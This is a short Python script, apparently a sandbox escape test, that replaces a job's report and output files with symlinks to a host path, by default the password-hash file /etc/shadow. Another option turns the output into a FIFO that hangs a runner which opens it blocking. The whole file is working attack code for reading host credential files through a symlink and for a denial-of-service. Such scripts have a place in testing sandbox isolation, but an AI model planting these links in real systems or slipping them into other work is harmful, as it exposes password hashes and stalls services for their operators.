"""Link /data/display/report.html and /data/output/0.parquet.gz to $LINK_TO (a host path).

WHAT picks the attack: ``display``, ``output`` or ``both`` (the default); ``fifo`` makes the
output a FIFO, which a runner that opens it blocking would wait on for ever.
"""

import os

target = os.environ.get("LINK_TO", "/etc/shadow")
what = os.environ.get("WHAT", "both")
if what in ("display", "both"):
    os.symlink(target, "/data/display/report.html")
if what in ("output", "both"):
    os.symlink(target, "/data/output/0.parquet.gz")
if what == "fifo":
    os.mkfifo("/data/output/0.parquet.gz")
print(f"linked {what} to {target}")
